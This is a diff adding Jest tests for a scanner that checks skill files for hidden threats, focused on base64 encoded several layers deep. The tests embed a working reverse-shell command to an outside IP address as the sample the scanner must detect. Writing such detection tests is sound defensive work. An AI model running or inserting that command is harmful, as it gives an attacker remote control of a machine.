@@ -79,3 +79,33 @@ describe('validateSkillSize', () => {
     expect(() => validateSkillSize({ name: 's', files })).toThrow(expect.objectContaining({ limit: 'maxTotalBytes' }));
   });
 });
+
+describe('nested encodings', () => {
+  const b64 = (s: string, times: number): string => (times === 0 ? s : b64(Buffer.from(s).toString('base64'), times - 1));
+  const shell = 'bash -i >& /dev/tcp/45.77.1.9/4444 0>&1';
+  const scanBlob = (blob: string) => scanSkill({ name: 's', files: [file(`blob = "${blob}"\n`, 'run.py')] });
+
+  it.each([1, 2, 3, 4, 6])('finds a reverse shell base64-encoded %i times over', (times) => {
+    const r = scanBlob(b64(shell, times));
+    expect(r.verdict).toBe('unsafe');
+    expect(r.findings.find((f) => f.rule_id === 'RS001')?.line).toBe(1);
+  });
+
+  it('flags three layers of encoding by itself, even around harmless text', () => {
+    expect(scanBlob(b64('print("nothing to see in here, move along")', 3)).findings.map((f) => f.rule_id)).toContain('OB006');
+    expect(scanBlob(b64('print("nothing to see in here, move along")', 2)).verdict).toBe('safe');
+  });
+
+  it('says how deep a finding sat, once', () => {
+    const rs = scanBlob(b64(shell, 3)).findings.find((f) => f.rule_id === 'RS001');
+    expect(rs?.message).toMatch(/\(inside base64-encoded text, 3 layers deep\)$/);
+  });
+
+  it('shares one decode budget across every layer of a file', () => {
+    // 200 lines of double-encoded text: without a shared budget each layer would decode its own 64 blobs.
+    const lines = Array.from({ length: 200 }, (_, i) => `b${i} = "${b64(`print("line ${i} of a long and boring file")`, 2)}"`);
+    const r = scanSkill({ name: 's', files: [file(lines.join('\n'), 'many.py')] }, { timeBudgetMs: 60_000 });
+    expect(r.verdict).toBe('safe');
+    expect(r.truncated).toBe(false);
+  });
+});
